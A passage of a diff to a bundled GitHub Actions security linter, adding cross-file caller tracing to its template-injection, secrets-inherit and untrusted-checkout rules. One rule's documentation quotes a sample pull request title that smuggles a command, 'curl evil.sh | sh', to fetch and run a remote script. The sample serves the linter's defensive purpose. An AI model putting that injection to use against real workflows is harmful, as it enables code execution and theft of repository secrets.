+      message: `\`${scope.key}\` takes ${orList(levels)}${level === null ? "" : `, not \`${level}\``} (${where2})`,
       severity: "high",
       confidence: "high"
     });
   }
 }
 function checkPermissionsBlock(context, entry, job, jobCount, totalJobs, inferred, jobResult) {
-  const where = job ? `job \`${job.id}\`` : "the workflow";
+  const where2 = job ? `job \`${job.id}\`` : "the workflow";
   const shorthand = scalarText(entry.value);
   const shorthandFixes = () => {
     if (job && jobResult) {
@@ -14458,7 +14494,7 @@ function checkPermissionsBlock(context, entry, job, jobCount, totalJobs, inferre
   if (shorthand === "write-all") {
     context.report({
       span: entry.valueSpan,
-      message: `\`permissions: write-all\` gives ${where} a token that can write to every scope: push code, publish packages, change releases${needs()}`,
+      message: `\`permissions: write-all\` gives ${where2} a token that can write to every scope: push code, publish packages, change releases${needs()}`,
       severity: "high",
       confidence: "high",
       fixes: shorthandFixes
@@ -14468,7 +14504,7 @@ function checkPermissionsBlock(context, entry, job, jobCount, totalJobs, inferre
   if (shorthand === "read-all") {
     context.report({
       span: entry.valueSpan,
-      message: `\`permissions: read-all\` gives ${where} read access to every scope; list only the scopes it needs (often just \`contents: read\`)${needs()}`,
+      message: `\`permissions: read-all\` gives ${where2} read access to every scope; list only the scopes it needs (often just \`contents: read\`)${needs()}`,
       severity: "medium",
       confidence: "high",
       fixes: shorthandFixes
@@ -15174,10 +15210,10 @@ var githubEnv = {
     let context;
     if (file.workflow) {
       const triggers = scopeTriggers(file) ?? [];
-      const privileged = triggers.filter((trigger) => PRIVILEGED_TRIGGERS.includes(trigger));
-      if (privileged.length === 0) return;
+      const privileged2 = triggers.filter((trigger) => PRIVILEGED_TRIGGERS.includes(trigger));
+      if (privileged2.length === 0) return;
       severity = "high";
-      context = `a workflow triggered by ${privileged.map((t) => `\`${t}\``).join(", ")}`;
+      context = `a workflow triggered by ${privileged2.map((t) => `\`${t}\``).join(", ")}`;
     } else if (file.action?.isComposite) {
       severity = "medium";
       context = "a composite action (its callers may run it on untrusted input)";
@@ -15250,7 +15286,7 @@ function spanOf(script, word) {
 }
 
 // server/src/rules/hardcoded-container-credentials.ts
-function checkCredentials(ctx, where, node, doc) {
+function checkCredentials(ctx, where2, node, doc) {
   const container = asMap(node);
   if (!container) return;
   const credentials = new MapView(asMap(new MapView(container, doc).get("credentials")?.value ?? null), doc);
@@ -15258,7 +15294,7 @@ function checkCredentials(ctx, where, node, doc) {
   if (!password || password.value.trim() === "" || password.value.includes("${{")) return;
   ctx.report({
     span: password.span,
-    message: `${where} has a registry password written in the workflow: anyone who can read the repository can use it. Use \`\${{ secrets.… }}\``
+    message: `${where2} has a registry password written in the workflow: anyone who can read the repository can use it. Use \`\${{ secrets.… }}\``
   });
 }
 var hardcodedContainerCredentials = {
@@ -16107,31 +16143,6 @@ function parseVersion2(text) {
   if (!match) return null;
   const parts = [match[1], match[2], match[3], match[4]].filter((p) => p !== void 0).map(Number);
   return { parts, written: parts.length, prerelease: match[5] !== void 0 };
-}
-
-// server/src/views.ts
-function available(value) {
-  return { available: true, value };
-}
-function unavailable(reason, detail) {
-  return detail === void 0 ? { available: false, reason } : { available: false, reason, detail };
-}
-function viewValue(view) {
-  return view.available ? view.value : void 0;
-}
-function onlineView(snapshot) {
-  if (!snapshot) return unavailable("not-fetched");
-  return snapshot.offline ? unavailable("offline") : available(snapshot);
-}
-var NO_VIEWS = Object.freeze({
-  online: unavailable("not-fetched"),
-  workspace: unavailable("not-indexed"),
-  dependencies: unavailable("not-fetched"),
-  lock: unavailable("not-indexed")
-});
-var lockViews = /* @__PURE__ */ new WeakMap();
-function rememberLockView(file, view) {
-  lockViews.set(file, view);
 }
 
 // server/src/rules/known-vulnerable-actions.ts
@@ -17072,13 +17083,13 @@ function customShellProgram(shell) {
   if (words2.slice(1).some((word) => READABLE_SHELLS.has(word.replace(/^.*[\\/]/, "").toLowerCase()))) return null;
   return words2[0] || null;
 }
-function checkShell(ctx, where, shell) {
+function checkShell(ctx, where2, shell) {
   if (!shell) return;
   const custom = customShellProgram(shell.value);
   if (custom) {
     ctx.report({
       span: shell.span,
-      message: `${where()} runs its script with the custom shell \`${custom}\`: no rule reads what that script does (downloads, installs, injected expressions), and its own quoting rules apply to every \`\${{ }}\` pasted into it. Prefer \`bash\` or \`pwsh\` calling the program on a file`,
+      message: `${where2()} runs its script with the custom shell \`${custom}\`: no rule reads what that script does (downloads, installs, injected expressions), and its own quoting rules apply to every \`\${{ }}\` pasted into it. Prefer \`bash\` or \`pwsh\` calling the program on a file`,
       severity: "informational",
       persona: "auditor"
     });
@@ -17087,7 +17098,7 @@ function checkShell(ctx, where, shell) {
   if (shell.value.trim().toLowerCase() !== "cmd") return;
   ctx.report({
     span: shell.span,
-    message: `${where()} uses \`shell: cmd\`, whose quoting rules make any interpolated value hard to contain and whose errors do not stop the script: use \`pwsh\` or \`bash\``
+    message: `${where2()} uses \`shell: cmd\`, whose quoting rules make any interpolated value hard to contain and whose errors do not stop the script: use \`pwsh\` or \`bash\``
   });
 }
 function checkSteps(ctx, steps) {
@@ -17419,7 +17430,7 @@ function checkRefVersionMismatch(ctx) {
     if (!parseVersion(claimed.text)) continue;
     const tag = findRef(refs, claimed.text).tag;
     if (tag && tag.commit === sha) continue;
-    const where = tag ? `points at ${tag.commit.slice(0, 12)}…, not at the pinned commit` : `is not a tag of ${uses.repository}`;
+    const where2 = tag ? `points at ${tag.commit.slice(0, 12)}…, not at the pinned commit` : `is not a tag of ${uses.repository}`;
     const fixes = [];
     if (bestTag) {
       const edits = pinEdits(file, site, uses, sha, bestTag);
@@ -17443,7 +17454,7 @@ function checkRefVersionMismatch(ctx) {
     }
     report2({
       span: claimed.span,
-      message: `The comment says \`${claimed.text}\` but \`${claimed.text}\` ${where} of \`${target}\`${bestTag ? `; the pinned commit is \`${bestTag}\`` : "; no tag points at the pinned commit"}`,
+      message: `The comment says \`${claimed.text}\` but \`${claimed.text}\` ${where2} of \`${target}\`${bestTag ? `; the pinned commit is \`${bestTag}\`` : "; no tag points at the pinned commit"}`,
       related: [{ span: site.entry.valueSpan, message: `pinned commit ${sha}` }],
       fixes
     });
@@ -17498,7 +17509,155 @@ function commentNamesRef(file, site, refs, sha) {
   return branch !== void 0 || tag?.commit === sha;
 }
 
+// server/src/rules/support/callers.ts
+var MAX_CALL_DEPTH = 10;
+function workspacePath(workspace, file) {
+  let root = workspace.root.replace(/\\/g, "/");
+  while (root.endsWith("/")) root = root.slice(0, -1);
+  const uri = file.uri.replace(/\\/g, "/");
+  let rest;
+  if (root === "" || root === ".") rest = uri;
+  else if (uri.startsWith(`${root}/`)) rest = uri.slice(root.length + 1);
+  else return null;
+  if (root.includes("://")) {
+    try {
+      rest = decodeURIComponent(rest);
+    } catch {
+      return null;
+    }
+  }
+  return normalizePath(rest);
+}
+function normalizePath(path) {
+  const parts = [];
+  for (const part of path.replace(/\\/g, "/").split("/")) {
+    if (part === "" || part === ".") continue;
+    if (part === "..") {
+      if (parts.length === 0) return null;
+      parts.pop();
+    } else parts.push(part);
+  }
+  return parts.join("/");
+}
+function resolveLocalUses(workspace, value, self) {
+  const text = value.trim();
+  let raw;
+  if (text.startsWith("$/")) {
+    const at = text.indexOf("@");
+    raw = text.slice(2, at === -1 ? void 0 : at);
+  } else if (text === "." || text.startsWith("./")) raw = text;
+  else return null;
+  const path = normalizePath(raw);
+  if (path === null) return null;
+  const find = (candidate) => {
+    const file = workspace.files.get(candidate) ?? (self && workspacePath(workspace, self) === candidate ? self : void 0);
+    return file ? { path: candidate, file } : null;
+  };
+  if (/\.ya?ml$/i.test(path) && path.startsWith(".github/workflows/")) return find(path);
+  const dir = path === "" ? "" : `${path}/`;
+  return find(`${dir}action.yml`) ?? find(`${dir}action.yaml`);
+}
+var indexes2 = /* @__PURE__ */ new WeakMap();
+function callIndex(workspace) {
+  const cached = indexes2.get(workspace);
+  if (cached) return cached;
+  const byTarget = /* @__PURE__ */ new Map();
+  for (const [path, file] of workspace.files) for (const site of callSitesOf(workspace, path, file)) push(byTarget, site.target, site.call);
+  const index2 = { byTarget };
+  indexes2.set(workspace, index2);
+  return index2;
+}
+function push(map2, key, value) {
+  const list = map2.get(key);
+  if (list) list.push(value);
+  else map2.set(key, [value]);
+}
+function callSitesOf(workspace, path, file) {
+  const found = [];
+  for (const site of file.uses) {
+    const reference = site.reference;
+    if (reference.kind !== "local" && reference.kind !== "self") continue;
+    const target = resolveLocalUses(workspace, site.value, file);
+    const targetPath = target?.path ?? localTargetPath(site.value);
+    if (targetPath === null) continue;
+    const entry = site.entry;
+    if (site.step)
+      found.push({ target: targetPath, call: { path, file, job: site.job, step: site.step, uses: entry, with: site.step.with } });
+    else if (site.job)
+      found.push({ target: targetPath, call: { path, file, job: site.job, step: null, uses: entry, with: site.job.with } });
+  }
+  return found;
+}
+function localTargetPath(value) {
+  const text = value.trim();
+  const raw = text.startsWith("$/") ? text.slice(2).split("@")[0] : text;
+  const path = normalizePath(raw);
+  if (path === null) return null;
+  return /\.ya?ml$/i.test(path) ? path : `${path === "" ? "" : `${path}/`}action.yml`;
+}
+function callSitesOfFile(workspace, file) {
+  const path = workspacePath(workspace, file);
+  if (path === null) return [];
+  const sites = callIndex(workspace).byTarget.get(path) ?? [];
+  return sites.filter((site) => site.path !== path);
+}
+function workflowCallers(workspace, file) {
+  if (!file.workflow?.hasTrigger("workflow_call")) return [];
+  const path = workspacePath(workspace, file);
+  if (path === null) return [];
+  return callersOf(workspace, path, /* @__PURE__ */ new Set([path]), 0);
+}
+function callersOf(workspace, path, seen, depth) {
+  const found = [];
+  for (const site of callIndex(workspace).byTarget.get(path) ?? []) {
+    const workflow = site.file.workflow;
+    if (!workflow || !site.job || site.step) continue;
+    const own = workflow.triggers.map((trigger) => trigger.name).filter((name) => name !== "workflow_call");
+    const triggers = [...own];
+    const chain2 = [];
+    if (workflow.hasTrigger("workflow_call") && depth < MAX_CALL_DEPTH && !seen.has(site.path)) {
+      seen.add(site.path);
+      for (const upper of callersOf(workspace, site.path, seen, depth + 1)) {
+        for (const trigger of upper.triggers) if (!triggers.includes(trigger)) triggers.push(trigger);
+        if (!chain2.includes(upper.path)) chain2.push(upper.path);
+      }
+      seen.delete(site.path);
+    }
+    const secretsEntry = site.job.secrets;
+    const secrets = scalarText(secretsEntry?.value ?? null) === "inherit" ? "inherit" : site.job.child("secrets").entries.map((entry) => entry.key);
+    found.push({
+      ...site,
+      job: site.job,
+      step: null,
+      triggers,
+      chain: chain2,
+      permissions: site.job.permissions ?? workflow.permissions,
+      secrets
+    });
+  }
+  return found;
+}
+function actionCallers(workspace, file) {
+  if (!file.action) return [];
+  return callSitesOfFile(workspace, file).filter((site) => site.step !== null);
+}
+function passedInput(call, name) {
+  const lower2 = name.toLowerCase();
+  return call.with.entries.find((entry) => entry.key.toLowerCase() === lower2);
+}
+function describeCaller(call) {
+  const where2 = call.job ? `job \`${call.job.id}\`` : call.step ? `step ${call.step.index + 1}` : "a step";
+  return `\`${call.path}\` (${where2})`;
+}
+
 // server/src/rules/secrets-inherit.ts
+function secretsRead(file) {
+  if (file.workflow?.jobs.some((job) => scalarText(job.secrets?.value ?? null) === "inherit")) return null;
+  const names2 = /* @__PURE__ */ new Set();
+  for (const entry of file.workflow?.trigger("workflow_call")?.config?.child("secrets").entries ?? []) names2.add(entry.key);
+  for (const reference of secretReferences(file, { start: 0, end: file.text.length })) names2.add(reference.name);
+  return names2.has("*") ? null : [...names2];
+}
 var secretsInherit = {
   id: "secrets-inherit",
   title: "Every secret passed to a reusable workflow",
@@ -17507,23 +17666,37 @@ var secretsInherit = {
   confidence: "high",
   persona: "regular",
   online: false,
+  reads: ["workspace"],
   docs: {
     summary: "`secrets: inherit` hands every secret of the repository (and its organisation) to the called workflow, whatever it needs.",
     why: "A reusable workflow that is compromised, or whose ref moves (as the tags of tj-actions/changed-files did in 2025, CVE-2025-30066), receives all of the caller's secrets at once. GhostAction (2025) exfiltrated 3,325 secrets from 817 repositories: each secret a workflow can reach is one more to lose.",
     fix: "Pass only the secrets the called workflow declares under `on.workflow_call.secrets`, e.g. `secrets: { PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }} }`."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report2, workspace }) {
     const workflow = file.workflow;
     if (!workflow) return;
+    const space = viewValue(workspace);
     for (const job of workflow.jobs) {
       const secrets = job.secrets;
       if (!secrets || scalarText(secrets.value) !== "inherit") continue;
       const target = scalarText(job.uses?.value ?? null) ?? "the called workflow";
       const local = target.startsWith("./") || target.startsWith("$/");
+      const called = local && space ? resolveLocalUses(space, target, file) : null;
+      const read = called?.file.workflow ? secretsRead(called.file) : null;
+      const advice = read === null ? "pass only the secrets it declares" : read.length === 0 ? "it reads no secret: remove `secrets: inherit`" : `it reads ${read.slice(0, 5).map((name) => `\`${name}\``).join(", ")}${read.length > 5 ? "…" : ""}: pass only ${read.length === 1 ? "that one" : "those"}`;
       report2({
         span: secrets.valueSpan,
-        message: `job \`${job.id}\` passes every repository and organisation secret to \`${target}\`${local ? " (a workflow of this repository)" : ""}; pass only the secrets it declares`,
-        severity: local ? "low" : "medium"
+        message: `job \`${job.id}\` passes every repository and organisation secret to \`${target}\`${local ? " (a workflow of this repository)" : ""}; ${advice}`,
+        severity: local ? "low" : "medium",
+        ...called ? {
+          related: [
+            {
+              span: called.file.workflow?.trigger("workflow_call")?.span ?? { start: 0, end: 0 },
+              message: "the called workflow",
+              file: called.file
+            }
+          ]
+        } : {}
       });
     }
   }
@@ -17896,6 +18069,52 @@ function editsKeepYamlValid(text, region, edits) {
   return after.length <= before.length && after.every((code) => before.includes(code));
 }
 
+// server/src/rules/support/caller-inputs.ts
+var MAX_INPUT_DEPTH = 4;
+function localCallers(workspace, file) {
+  if (file.action) return actionCallers(workspace, file);
+  return workflowCallers(workspace, file);
+}
+function callerInputVerdict(workspace, file, name, depth = 0) {
+  const callers = localCallers(workspace, file);
+  if (callers.length === 0) return null;
+  let best = { verdict: null, caller: null, span: null, passed: null, callers: callers.length };
+  for (const caller of callers) {
+    const found = passedVerdict(workspace, caller, name, depth);
+    if (found.verdict && stronger(best.verdict, found.verdict) === found.verdict && found.verdict !== best.verdict)
+      best = { ...found, callers: callers.length };
+  }
+  return best;
+}
+function passedVerdict(workspace, caller, name, depth) {
+  const none2 = { verdict: null, caller, span: null, passed: null, callers: 1 };
+  const entry = passedInput(caller, name);
+  if (!entry) return none2;
+  const text = scalarText(entry.value);
+  if (text === null || !text.includes("${{")) return none2;
+  const callerFile = caller.file;
+  let best = none2;
+  for (const site of callerFile.expressions) {
+    const occurrence = site.occurrence;
+    if (occurrence.start < entry.valueSpan.start || occurrence.end > entry.valueSpan.end) continue;
+    for (const leaf of assessSite(site, scopeOf(callerFile, site.path))) {
+      let verdict2 = leaf.verdict;
+      const path = normalizeContextPath(leaf.path);
+      if (path.startsWith("inputs.") && depth < MAX_INPUT_DEPTH) {
+        const upper = callerInputVerdict(workspace, callerFile, path.slice("inputs.".length), depth + 1);
+        if (upper)
+          verdict2 = upper.verdict && upper.caller && upper.passed ? {
+            ...upper.verdict,
+            reason: `its own \`${leaf.path}\`, which ${describeCaller(upper.caller)} fills with \`${upper.passed}\` (there: ${upper.verdict.reason})`
+          } : null;
+      }
+      if (verdict2 && stronger(best.verdict, verdict2) === verdict2 && verdict2 !== best.verdict)
+        best = { verdict: verdict2, caller, span: { start: leaf.start, end: leaf.end }, passed: leaf.path, callers: 1 };
+    }
+  }
+  return best;
+}
+
 // server/src/rules/template-injection.ts
 function stepShell(scope, step) {
   const own = step.shell?.value ?? scope.job?.child("defaults").child("run").string("shell")?.value ?? scope.file.workflow?.child("defaults").child("run").string("shell")?.value;
@@ -17940,27 +18159,21 @@ var templateInjection = {
   confidence: "high",
   persona: "regular",
   online: false,
+  reads: ["workspace"],
   docs: {
     summary: "A `${{ }}` expression whose value someone else chooses is pasted into a `run:` script or into an input that an action runs as code, before the shell or interpreter reads it.",
     why: "Expressions are substituted into the script text before it runs, so a pull request title such as `\"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action's `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.",
     fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.'
   },
-  check({ file, report: report2 }) {
-    const kind = file.workflow ? "workflow" : "action";
-    for (const site of file.expressions) {
-      if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
-      const path = site.path;
-      const base2 = stepKeysStart(path, kind);
-      if (base2 === -1 || !(path.length === base2 + 1 && path[base2] === "run") && !(path.length === base2 + 2 && path[base2] === "with"))
-        continue;
-      const scope = scopeOf(file, path);
-      const sink = sinkOf(site, scope, base2);
-      if (!sink) continue;
-      const leaves = assessSite(site, scope);
-      if (leaves.length === 0) continue;
+  check({ file, report: report2, workspace }) {
+    const space = viewValue(workspace);
+    for (const { site, scope, sink, leaves } of sinkLeaves(file)) {
       const single = singleContext(site);
       for (const leaf of leaves) {
-        const { verdict: verdict2 } = leaf;
+        let { verdict: verdict2 } = leaf;
+        let related2;
+        const fromCallers = space ? inputFromCallers(space, file, leaf.path) : null;
+        if (fromCallers) ({ verdict: verdict2, related: related2 } = fromCallers);
         const step = scope.step;
         const canMove = single !== null && leaves.length === 1 && step !== null && step !== void 0;
         const fixes = () => {
@@ -17980,11 +18193,13 @@ var templateInjection = {
           severity: verdict2.severity,
           confidence: verdict2.confidence,
           persona: verdict2.persona,
+          ...related2 ? { related: related2 } : {},
           fixes
         });
       }
     }
     reportAliasedSinks(file, report2);
+    if (space) reportCallsPassingUntrustedText(file, space, report2);
   }
 };
 function reportAliasedSinks(file, report2) {
@@ -18037,6 +18252,120 @@ function reportAliasedSinks(file, report2) {
           });
         }
       }
+    }
+  }
+}
+function* sinkLeaves(file) {
+  const kind = file.workflow ? "workflow" : "action";
+  for (const site of file.expressions) {
+    if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
+    const path = site.path;
+    const base2 = stepKeysStart(path, kind);
+    if (base2 === -1 || !(path.length === base2 + 1 && path[base2] === "run") && !(path.length === base2 + 2 && path[base2] === "with"))
+      continue;
+    const scope = scopeOf(file, path);
+    const sink = sinkOf(site, scope, base2);
+    if (!sink) continue;
+    const leaves = assessSite(site, scope);
+    if (leaves.length > 0) yield { site, scope, sink, leaves };
+  }
+}
+function inputName(path) {
+  const normalized = normalizeContextPath(path);
+  if (!normalized.startsWith("inputs.")) return null;
+  const name = normalized.slice("inputs.".length);
+  return name === "" || name === "*" || name.includes(".") ? null : name;
+}
+function callersAreKnown(space, file) {
+  if (file.workflow) return true;
+  const path = workspacePath(space, file);
+  return path !== null && path.startsWith(".github/");
+}
+function inputFromCallers(space, file, path) {
+  const name = inputName(path);
+  if (name === null) return null;
+  const workflow = file.workflow;
+  if (workflow) {
+    if (!workflow.hasTrigger("workflow_call")) return null;
+    if (workflow.trigger("workflow_dispatch")?.config?.child("inputs").entries.some((entry) => entry.key.toLowerCase() === name))
+      return null;
+  } else if (!file.action) return null;
+  const found = callerInputVerdict(space, file, name);
+  if (!found) return null;
+  const { verdict: verdict2, caller, span, passed } = found;
+  if (verdict2 && caller && span && passed) {
+    return {
+      verdict: {
+        ...verdict2,
+        reason: `input \`${name}\`, which ${describeCaller(caller)} fills with \`${passed}\` (there: ${verdict2.reason})`
+      },
+      related: [{ span, message: `\`${passed}\` passed as input \`${name}\` here`, file: caller.file }]
+    };
+  }
+  if (!callersAreKnown(space, file)) return null;
+  const count = found.callers;
+  return {
+    verdict: {
+      severity: "low",
+      confidence: "medium",
+      persona: "pedantic",
+      capability: "writer",
+      reason: `input \`${name}\`, which ${count === 1 ? "the only caller" : `each of the ${count} callers`} in this repository fills with a literal or a value only maintainers choose (a caller outside the repository is not seen)`
+    }
+  };
+}
+function inputSinks(file) {
+  let sinks = INPUT_SINKS.get(file);
+  if (sinks) return sinks;
+  sinks = /* @__PURE__ */ new Map();
+  for (const { sink, leaves } of sinkLeaves(file)) {
+    for (const leaf of leaves) {
+      const name = inputName(leaf.path);
+      if (name === null) continue;
+      const list = sinks.get(name) ?? [];
+      if (list.length === 0) sinks.set(name, list);
+      list.push({ span: { start: leaf.start, end: leaf.end }, label: sink.label });
+    }
+  }
+  INPUT_SINKS.set(file, sinks);
+  return sinks;
+}
+var INPUT_SINKS = new AttachedCache("input-sinks", attachmentsOf);
+function reportCallsPassingUntrustedText(file, space, report2) {
+  for (const site of file.uses) {
+    if (site.reference.kind !== "local" && site.reference.kind !== "self") continue;
+    const target = resolveLocalUses(space, site.value, file);
+    if (!target || target.file === file) continue;
+    const sinks = inputSinks(target.file);
+    if (sinks.size === 0) continue;
+    const withMap = site.step ? site.step.with : site.job?.with;
+    if (!withMap) continue;
+    for (const entry of withMap.entries) {
+      const targets3 = sinks.get(entry.key.toLowerCase());
+      if (!targets3) continue;
+      let best = null;
+      for (const expression of file.expressions) {
+        const occurrence = expression.occurrence;
+        if (occurrence.start < entry.valueSpan.start || occurrence.end > entry.valueSpan.end) continue;
+        for (const leaf of assessSite(expression, scopeOf(file, expression.path))) {
+          if (inputName(leaf.path) !== null) continue;
+          if (leaf.verdict.capability !== "arbitrary" || leaf.verdict.severity !== "high") continue;
+          if (!best) best = leaf;
+        }
+      }
+      if (!best) continue;
+      const sink = targets3[0];
+      report2({
+        span: site.entry.valueSpan,
+        message: `\`${best.path}\` is passed as input \`${entry.key}\` to \`${target.path}\`, which expands it into ${sink.label}: ${best.verdict.reason}. Pass it through \`env:\` in the called file instead`,
+        severity: best.verdict.severity,
+        confidence: best.verdict.confidence,
+        persona: best.verdict.persona,
+        related: [
+          { span: { start: best.start, end: best.end }, message: `\`${best.path}\` passed here` },
+          { span: sink.span, message: `\`inputs.${entry.key}\` expanded here`, file: target.file }
+        ]
+      });
     }
   }
 }
@@ -18480,13 +18809,13 @@ function expansions(value, job) {
   }
   return results.map((prefix) => prefix + value.slice(cursor));
 }
-function checkImage(ctx, where, value, span, job) {
+function checkImage(ctx, where2, value, span, job) {
   if (value.trim() === "") return;
   const candidates = expansions(value, job);
   if (candidates === null) {
     ctx.report({
       span,
-      message: `${where} image \`${value}\` is computed from an expression, so it cannot be checked for a digest pin`,
+      message: `${where2} image \`${value}\` is computed from an expression, so it cannot be checked for a digest pin`,
       confidence: "low"
     });
     return;
@@ -18501,27 +18830,27 @@ function checkImage(ctx, where, value, span, job) {
     if (image.tag === null || image.tag === "latest") {
       ctx.report({
         span,
-        message: `${where} image ${shown} ${image.tag === null ? "has no tag, so it means `:latest`" : "uses `:latest`"}, which changes whenever the image is pushed: pin it by digest (\`${image.name}@sha256:…\`)`
+        message: `${where2} image ${shown} ${image.tag === null ? "has no tag, so it means `:latest`" : "uses `:latest`"}, which changes whenever the image is pushed: pin it by digest (\`${image.name}@sha256:…\`)`
       });
     } else {
       ctx.report({
         span,
-        message: `${where} image ${shown} is pinned to tag \`${image.tag}\`, which can be re-pushed: pin it by digest (\`${image.name}:${image.tag}@sha256:…\`)`,
+        message: `${where2} image ${shown} is pinned to tag \`${image.tag}\`, which can be re-pushed: pin it by digest (\`${image.name}:${image.tag}@sha256:…\`)`,
         persona: "pedantic"
       });
     }
   }
 }
-function checkContainer(ctx, where, node, view, job) {
+function checkContainer(ctx, where2, node, view, job) {
   const direct = spannedString(node);
   if (direct) {
-    checkImage(ctx, where, direct.value, direct.span, job);
+    checkImage(ctx, where2, direct.value, direct.span, job);
     return;
   }
   const map2 = asMap(node);
   if (!map2) return;
   const image = new MapView(map2, view.doc).string("image");
-  if (image) checkImage(ctx, where, image.value, image.span, job);
+  if (image) checkImage(ctx, where2, image.value, image.span, job);
 }
 var unpinnedImages = {
   id: "unpinned-images",
@@ -18693,19 +19022,19 @@ function checkJob(ctx, job, budget) {
 }
 function report(ctx, job, step, key, target, own, known, later, inGroup, budget) {
   const id = target.value;
-  const where = `\`${key}:\` of step ${step.name || step.id ? `\`${step.label}\`` : step.position} in job \`${job.id}\``;
+  const where2 = `\`${key}:\` of step ${step.name || step.id ? `\`${step.label}\`` : step.position} in job \`${job.id}\``;
   let message;
   let suggestion2 = null;
   if (own !== null && own.toLowerCase() === id.toLowerCase()) {
-    message = `${where} names the step itself (\`${id}\`): a step cannot ${key === "wait" ? "wait for" : "cancel"} itself`;
+    message = `${where2} names the step itself (\`${id}\`): a step cannot ${key === "wait" ? "wait for" : "cancel"} itself`;
   } else if (later && later !== step) {
-    message = `${where} names \`${id}\`, a later step (step ${later.position}): only a step defined earlier can be ${key === "wait" ? "waited for" : "cancelled"}`;
+    message = `${where2} names \`${id}\`, a later step (step ${later.position}): only a step defined earlier can be ${key === "wait" ? "waited for" : "cancelled"}`;
   } else if (inGroup) {
-    message = `${where} names \`${id}\`, a step inside the \`parallel:\` group at step ${inGroup.parallel?.position ?? "?"}: the group already waits for its own steps, and GitHub does not accept their ids here`;
+    message = `${where2} names \`${id}\`, a step inside the \`parallel:\` group at step ${inGroup.parallel?.position ?? "?"}: the group already waits for its own steps, and GitHub does not accept their ids here`;
   } else {
     suggestion2 = closest(id, known, budget);
     const hint = suggestion2 !== null ? `: did you mean \`${suggestion2}\`?` : known.list.length > 0 ? ` (ids defined before it: ${known.list.slice(0, 5).map((k) => `\`${k}\``).join(", ")}${known.list.length > 5 ? ", …" : ""})` : ": no step before it has an `id:`";
-    message = `${where} names \`${id}\`, which is not the id of an earlier step${hint}`;
+    message = `${where2} names \`${id}\`, which is not the id of an earlier step${hint}`;
   }
   const fixes = suggestion2 !== null && target.exact && PLAIN_ID.test(suggestion2) ? [
     {
@@ -19065,6 +19394,33 @@ var unsoundTernary = {
 
 // server/src/rules/untrusted-checkout.ts
 var TRIGGERS3 = ["pull_request_target", "workflow_run", "issue_comment"];
+function pathsOf(file, workflow) {
+  const found = [];
+  for (const job of workflow.jobs) {
+    for (const checkout of untrustedCheckouts(file, workflow, job)) {
+      const executions = executionsAfter(file, job, checkout.step, checkout);
+      if (executions.length === 0) continue;
+      const secrets = [...new Set(secretReferences(file, job.span).map((secret) => secret.name))];
+      const guarded = Boolean(job.environment) || /label|author_association|permission/i.test(scalarText(job.if?.value ?? null) ?? "");
+      found.push({ job, checkout, executions, secrets, guarded });
+    }
+  }
+  return found;
+}
+function reachOf(secrets, writes) {
+  const parts = [
+    secrets.length > 0 ? `secrets ${secrets.slice(0, 3).map((name) => `\`${name}\``).join(", ")}${secrets.length > 3 ? "…" : ""}` : null,
+    writes ? "a token that can write" : null
+  ].filter((part) => part !== null);
+  return parts.length > 0 ? parts.join(" and ") : null;
+}
+function calledJobMayWrite(workflow, job, callers) {
+  if (job.permissions ?? workflow.permissions) return tokenMayWrite(workflow, job);
+  return callers.some((caller) => caller.file.workflow !== null && tokenMayWrite(caller.file.workflow, caller.job));
+}
+function privileged(triggers) {
+  return TRIGGERS3.filter((name) => triggers.includes(name));
+}
 var untrustedCheckout = {
   id: "untrusted-checkout",
   title: "Privileged job executes pull request code",
@@ -19073,40 +19429,102 @@ var untrustedCheckout = {
   confidence: "high",
   persona: "regular",
   online: false,
+  reads: ["workspace"],
   docs: {
-    summary: "A `pull_request_target`, `workflow_run` or `issue_comment` job checks out the pull request's head or merge commit and then runs something from it (a build tool, a script, a local action) while secrets or a write token are in reach.",
+    summary: "A `pull_request_target`, `workflow_run` or `issue_comment` job checks out the pull request's head or merge commit and then runs something from it (a build tool, a script, a local action) while secrets or a write token are in reach; also a reusable workflow that does so when a workflow of the repository calls it under one of those triggers.",
     why: 'This is the "pwn request". At spotbugs (2024) a `pull_request_target` workflow checked out `refs/pull/N/merge` and ran Maven with a maintainer PAT in the environment; the stolen PAT led to reviewdog and then to tj-actions/changed-files. PostHog (2025) ran a script from the pull request with a bot PAT that published to npm; Trivy (2026, hackerbot-claw) ran `uses: ./.github/actions/setup-go` from the checked-out pull request with an org PAT; the prt-scan wave (2026) opened mass pull requests against workflows that ran `npm install` on the head commit.',
     fix: "Build pull requests under `pull_request` (no secrets, read-only token for forks). If results must be posted back, upload them as an artifact and let a separate `workflow_run` job post them without checking out or executing anything from the pull request. If a privileged job really must look at the code, check it out into a subdirectory and only read it as data."
   },
-  check({ file, report: report2 }) {
+  check({ file, report: report2, workspace }) {
     const workflow = file.workflow;
     if (!workflow) return;
-    const triggers = privilegedTriggers(workflow, TRIGGERS3);
-    if (triggers.length === 0) return;
-    for (const job of workflow.jobs) {
-      const checkouts = untrustedCheckouts(file, workflow, job);
-      for (const checkout of checkouts) {
-        const executions = executionsAfter(file, job, checkout.step, checkout);
-        if (executions.length === 0) continue;
-        const secrets = [...new Set(secretReferences(file, job.span).map((secret) => secret.name))];
-        const writes = tokenMayWrite(workflow, job);
-        const reach = [
-          secrets.length > 0 ? `secrets ${secrets.slice(0, 3).map((name) => `\`${name}\``).join(", ")}${secrets.length > 3 ? "…" : ""}` : null,
-          writes ? "a token that can write" : null
-        ].filter((part) => part !== null);
+    const own = privilegedTriggers(workflow, TRIGGERS3);
+    if (own.length > 0) {
+      for (const path of pathsOf(file, workflow)) {
+        const { job, checkout, executions } = path;
+        const reach = reachOf(path.secrets, tokenMayWrite(workflow, job));
         const first = executions[0];
-        const guarded = job.environment || /label|author_association|permission/i.test(scalarText(job.if?.value ?? null) ?? "");
         report2({
           span: first.span,
